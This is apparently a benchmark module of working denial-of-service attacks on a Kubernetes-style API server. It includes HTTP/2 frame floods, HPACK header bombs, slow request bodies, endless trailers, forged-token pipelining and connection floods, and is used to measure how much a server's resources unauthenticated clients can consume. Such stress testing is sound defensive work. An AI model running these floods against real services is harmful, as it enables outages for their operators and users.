"""Attacks on memory by unauthenticated clients, and floods of cheap requests and frames.

Those of 40 connections cost the server the most processor time that an unauthenticated client can make it spend:
parsing, refusing and answering frames.
"""

from __future__ import annotations

import base64
import struct

import trio

from benchmarks.attacks.target import ADMIN, NOBODY, Run, Target, attacks, head, many

PATH = "/api/v1/namespaces/default/configmaps"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00" + bytes(4)
MB = 1024 * 1024
# In the form of a service account token, with a signature that does not match.
_PARTS = ('{"alg":"RS256","kid":"none"}', '{"iss":"https://kubernetes.default.svc","sub":"x"}', "x" * 256)
WRONG_TOKEN = ".".join(base64.urlsafe_b64encode(part.encode()).decode().rstrip("=") for part in _PARTS)


async def _send_until_closed(stream: trio.SocketStream, data: bytes) -> None:
    try:
        while True:
            await stream.send_all(data)
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        pass


async def _several(target: Target, count: int, one: Run) -> None:
    async with trio.open_nursery() as nursery:
        for _ in range(count):
            nursery.start_soon(_again, target, one)
        await target.over()
        nursery.cancel_scope.cancel()


async def _again(target: Target, one: Run) -> None:
    while True:
        try:
            await one(target)
        except (trio.BrokenResourceError, OSError):
            pass
        await trio.sleep(0.05)


async def _endless_trailers(target: Target) -> None:
    async with await target.connect() as stream:
        start = head("POST", PATH, "Transfer-Encoding: chunked", token="")
        await stream.send_all(start + b"2\r\n{}\r\n0\r\n")
        block = b"".join(b"T%06d: %s\r\n" % (i, b"x" * 100) for i in range(500))
        await _send_until_closed(stream, block)


def _slow_body(token: str) -> Run:
    async def attack(target: Target) -> None:
        async with await target.connect() as stream:
            await stream.send_all(head("POST", PATH, token=token, length=3 * MB))
            sent = 0
            while sent < 3 * MB - 64 * 1024:
                await stream.send_all(b" " * 65536)
                sent += 65536
            await trio.sleep_forever()

    return attack


async def _large_frame(target: Target) -> None:
    """A DATA frame of 16 MB, as its head says."""
    async with await target.connect() as stream:
        await stream.send_all(
            PREFACE + struct.pack(">I", 16 * MB - 1)[1:] + b"\x00\x00" + struct.pack(">I", 1)
        )
        await _send_until_closed(stream, bytes(65536))


async def _priorities(target: Target) -> None:
    async with await target.connect() as stream:
        frame = b"\x00\x00\x05\x02\x00" + struct.pack(">IIB", 3, 1, 16)
        await stream.send_all(PREFACE)
        await _send_until_closed(stream, frame * 1000)


async def _drained(stream: trio.SocketStream, data: bytes) -> None:
    """Send the same bytes repeatedly, and read the responses, until the server closes the connection."""
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_send_until_closed, stream, data)
        try:
            while await stream.receive_some(MB):
                pass
        finally:
            nursery.cancel_scope.cancel()


def _sent_in_full(request: bytes) -> Run:
    """Pipelined: the next request is on its way before the response to the last one."""

    async def attack(target: Target) -> None:
        async with await target.connect() as stream:
            await _drained(stream, request)

    return attack


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _sent_as_frames(repeated: bytes, before: bytes = b"") -> Run:
    async def attack(target: Target) -> None:
        async with await target.connect() as stream:
            await stream.send_all(PREFACE + before)
            await _drained(stream, repeated)

    return attack


# GET, http, and the path and authority, without Huffman code or indexing.
_GET = b"\x82\x86\x04" + bytes((len(PATH),)) + PATH.encode() + b"\x01\x01a"


def _streams(count: int, block: bytes, first: int = 1) -> bytes:
    """This many requests, with blocks that fit in one frame."""
    return b"".join(_frame(1, 5, first + 2 * index, block) for index in range(count))


async def _header_bombs(target: Target) -> None:
    """Blocks of 250 KB, in 16 frames each, of short fields that all enter the decoder's table."""
    fields = b"\x40\x01x\x01y" * 3200
    async with await target.connect() as stream:
        await stream.send_all(PREFACE)
        number = 1
        async with trio.open_nursery() as nursery:
            nursery.start_soon(_read_all, stream, nursery.cancel_scope)
            while True:
                frames = _frame(1, 1, number, _GET)
                for index in range(16):
                    frames += _frame(9, 4 if index == 15 else 0, number, fields)
                await stream.send_all(frames)
                number += 2


async def _read_all(stream: trio.SocketStream, scope: trio.CancelScope) -> None:
    try:
        while await stream.receive_some(MB):
            pass
    except trio.BrokenResourceError:
        pass
    scope.cancel()


def _window_games() -> Run:
    """Responses that wait in 200 streams for windows which open byte by byte, and change for all of them at once."""
    closed = _frame(4, 0, 0, struct.pack(">HI", 4, 0))
    opened = b"".join(_frame(8, 0, 2 * index + 1, struct.pack(">I", 1)) for index in range(200))
    changed = b"".join(_frame(4, 0, 0, struct.pack(">HI", 4, size)) for size in (1, 0) * 4)
    return _sent_as_frames(opened + changed, closed + _streams(200, _GET))


async def _wrong_streams(target: Target) -> None:
    """Requests with bodies that never arrive completely and an unknown token, 200 at once."""
    token = b"Bearer " + WRONG_TOKEN.encode()
    block = b"\x83" + _GET[1:] + b"\x0f\x08" + _length(len(token)) + token
    async with await target.connect() as stream, trio.open_nursery() as nursery:
        await stream.send_all(PREFACE)
        nursery.start_soon(_read_all, stream, nursery.cancel_scope)
        for first in range(1, 1 << 20, 2):
            await stream.send_all(_frame(1, 4, first, block))


def _length(size: int) -> bytes:
    """The length of a literal, as HPACK writes it."""
    if size < 127:
        return bytes((size,))
    size -= 127
    return bytes((127, size & 0x7F | 0x80, size >> 7))


def _repeated(count: int, one: Run) -> Run:
    async def attack(target: Target) -> None:
        await _several(target, count, one)

    return attack


def _flood(token: str, connections: int) -> Run:
    async def attack(target: Target) -> None:
        await many(target, connections, head("GET", f"{PATH}/victim", token=token))

    return attack


_UNAUTHENTICATED: dict[str, Run] = {
    "endless trailers": _repeated(4, _endless_trailers),
    "300 bodies of 3 MiB by unauthenticated clients": _repeated(300, _slow_body("")),
    "300 bodies of 3 MiB by a user": _repeated(300, _slow_body(ADMIN)),
    "300 bodies of 3 MiB by a user without rights": _repeated(300, _slow_body(NOBODY)),
    "40 HTTP/2 frames of 16 MB": _repeated(40, _large_frame),
    "PRIORITY floods": _repeated(8, _priorities),
    "gets on 500 connections by a user without rights": _flood(NOBODY, 500),
    "40 connections: long targets": _repeated(
        40, _sent_in_full(head("GET", f"{PATH}?labelSelector=" + "a%2C" * 250_000, token=""))
    ),
    "40 connections: wrong tokens": _repeated(40, _sent_in_full(head("GET", PATH, token=WRONG_TOKEN) * 100)),
    "40 connections: header bombs": _repeated(40, _header_bombs),
    "40 connections: SETTINGS floods": _repeated(
        40, _sent_as_frames(_frame(4, 0, 0, struct.pack(">HI", 4, 1 << 20)) * 1000)
    ),
    "40 connections: window games": _repeated(40, _window_games()),
    "40 connections: wrong tokens in HTTP/2": _repeated(40, _wrong_streams),
}
ANYBODY = attacks("anybody", _UNAUTHENTICATED)
